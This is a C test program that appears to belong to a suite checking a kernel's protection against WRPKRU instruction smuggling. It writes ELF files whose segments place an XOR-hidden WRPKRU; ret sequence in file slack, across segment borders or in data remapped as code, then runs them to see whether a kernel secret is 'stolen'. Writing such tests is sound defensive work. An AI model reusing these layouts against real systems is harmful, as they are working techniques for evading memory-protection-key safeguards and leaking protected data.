/* none: succeeds: secret; keys: succeeds: secret; full: fails "nothing stolen" */
#include "chance.h"

#include <elf.h>

/*
 * Programs whose segments bring WRPKRU into memory in ways that no linker would: in what a page has of the file before and behind the
 * segment, over the border of two, in data that is mapped a second time as code.
 */
#define BASE 0x400000ul
#define FILE_SIZE 0x8000
#define CODE_AT 0x1000 /* in the file */
#define MOST_SEGMENTS 3
#define MOST_PIECES 2

static const unsigned char split_opener[] = { 0x0f ^ 0x55, 0x01 ^ 0x55, 0xef ^ 0x55, 0xc3 ^ 0x55 }; /* WRPKRU; ret: but not in the text of this */

/* The program: calls its target with what WRPKRU wants, takes the secret, prints it. */
__asm__(".pushsection .text\nprogram:\tmov from(%rip), %r12\n\tmov target(%rip), %rbx\n\txor %eax, %eax\n\txor %ecx, %ecx\n\txor %edx, %edx\n\t"
	"call *%rbx\n\tmov (%r12), %r13\n\tmov 8(%r12), %r14\n\tpush $'\\n'\n\tpush %r14\n\tpush %r13\n\t"
	"movabs $0x203a6e656c6f7473, %rax\n\tpush %rax\n\tmov $1, %eax\n\tmov $1, %edi\n\tmov %rsp, %rsi\n\tmov $25, %edx\n\tsyscall\n\t"
	"mov $231, %eax\n\tmov $77, %edi\n\tsyscall\nfrom:\t.quad 0\ntarget:\t.quad 0\nprogram_end:\n.popsection");
extern const char program[], from[], target[], program_end[];

#define R PF_R
#define RW (PF_R | PF_W)
#define RX (PF_R | PF_X)
#define RWX (PF_R | PF_W | PF_X)
#define ALL 4

/* Beside the program's own; pieces of the opener go to the file. */
static const struct layout {
	const char *name;
	struct { uint32_t flags; uint64_t offset, address, in_file, in_memory; } segments[MOST_SEGMENTS];
	uint64_t target;
	struct { uint64_t offset; int first, count; } pieces[MOST_PIECES];
} layouts[] = {
	{ "behind the program", { { 0 } }, 0x400800, { { 0x1800, 0, ALL } } },
	{ "before a segment", { { RX, 0x2300, 0x402300, 0x100, 0x100 } }, 0x402100, { { 0x2100, 0, ALL } } },
	{ "over the end of a segment", { { RX, 0x2000, 0x402000, 0x102, 0x102 } }, 0x402100, { { 0x2100, 0, ALL } } },
	{ "behind what is in the file, writable", { { RWX, 0x2000, 0x402000, 0x100, 0x2000 } }, 0x402180, { { 0x2180, 0, ALL } } },
	{ "behind what is in the file", { { RX, 0x2000, 0x402000, 0x100, 0x2000 } }, 0x402180, { { 0x2180, 0, ALL } } },
	{ "data again as code", { { R, 0x2000, 0x402000, 0x1000, 0x1000 }, { RX, 0x2000, 0x403000, 0x1000, 0x1000 } }, 0x403180, { { 0x2180, 0, ALL } } },
	{ "pages in another order", { { RX, 0x3000, 0x402000, 0x1000, 0x1000 }, { RX, 0x2000, 0x403000, 0x1000, 0x1000 } }, 0x402ffe,
	  { { 0x3ffe, 0, 2 }, { 0x2000, 2, 2 } } },
	{ "a page twice", { { RX, 0x2000, 0x402000, 0x1000, 0x1000 }, { RX, 0x2000, 0x403000, 0x1000, 0x1000 } }, 0x402ffe,
	  { { 0x2ffe, 0, 2 }, { 0x2000, 2, 2 } } },
	{ "code before memory", { { RX, 0x2000, 0x402000, 0x1000, 0x1000 }, { RWX, 0x3000, 0x403000, 0x1000, 0x1000 } }, 0x402ffe,
	  { { 0x2ffe, 0, 2 }, { 0x3000, 2, 2 } } },
	{ "memory before code", { { RWX, 0x2000, 0x402000, 0x1000, 0x1000 }, { RX, 0x3000, 0x403000, 0x1000, 0x1000 } }, 0x402ffe,
	  { { 0x2ffe, 0, 2 }, { 0x3000, 2, 2 } } },
	{ "at an odd offset", { { RX, 0x2801, 0x402801, 0x1000, 0x1000 } }, 0x402180, { { 0x2180, 0, ALL } } },
	{ "a hole before code", { { RX, 0x2000, 0x402000, 0xffe, 0x1000 }, { RX, 0x3000, 0x403000, 0x100, 0x100 } }, 0x402ffe,
	  { { 0x2ffe, 0, 2 }, { 0x3000, 2, 2 } } },
};
#define LAYOUTS (int)(sizeof layouts / sizeof *layouts)

static int add_segment(unsigned char *file, int n, uint32_t flags, uint64_t offset, uint64_t address, uint64_t in_file, uint64_t in_memory)
{
	Elf64_Phdr segment = { PT_LOAD, flags, offset, address, address, in_file, in_memory, PAGE };

	memcpy(file + sizeof(Elf64_Ehdr) + (size_t)n * sizeof segment, &segment, sizeof segment);
	return n + 1;
}

static void add_program(unsigned char *file, const struct layout *l)
{
	const uint64_t secret = at("kernel_secret");

	memcpy(file + CODE_AT, program, (size_t)(program_end - program));
	memcpy(file + CODE_AT + (from - program), &secret, sizeof secret);
	memcpy(file + CODE_AT + (target - program), &l->target, sizeof l->target);
	for (int i = 0; i < MOST_PIECES; i++)
		for (int k = 0; k < l->pieces[i].count; k++)
			file[l->pieces[i].offset + (uint64_t)k] = split_opener[l->pieces[i].first + k] ^ 0x55;
}

static void write_file(const struct layout *l)
{
	static unsigned char file[FILE_SIZE];
	Elf64_Ehdr header = { .e_ident = { 0x7f, 'E', 'L', 'F', ELFCLASS64, ELFDATA2LSB, EV_CURRENT }, .e_type = ET_EXEC, .e_machine = EM_X86_64,
			      .e_version = EV_CURRENT, .e_entry = BASE, .e_phoff = sizeof header, .e_ehsize = sizeof header,
			      .e_phentsize = sizeof(Elf64_Phdr) };
	const uint64_t own = (uint64_t)(program_end - program);
	int fd, n = add_segment(file, 0, RX, CODE_AT, BASE, own, own);

	for (int i = 0; i < MOST_SEGMENTS && l->segments[i].flags; i++)
		n = add_segment(file, n, l->segments[i].flags, l->segments[i].offset, l->segments[i].address, l->segments[i].in_file,
				l->segments[i].in_memory);
	header.e_phnum = (Elf64_Half)n;
	memcpy(file, &header, sizeof header);
	add_program(file, l);
	unlink("segments");
	fd = open("segments", O_WRONLY | O_CREAT, 0700);
	if (fd < 0 || write(fd, file, FILE_SIZE) != FILE_SIZE)
		_exit(2);
	close(fd);
}

static void attempt(int number)
{
	write_file(&layouts[number]);
	execl("segments", layouts[number].name, NULL);
	_exit(126);
}

int main(void)
{
	int stolen = 0;

	for (int i = 0; i < LAYOUTS; i++)
		stolen += has_stolen(in_child(attempt, i));
	say("%d of %d layouts: %s stolen\n", stolen, LAYOUTS, stolen ? "something" : "nothing");
	return 0;
}
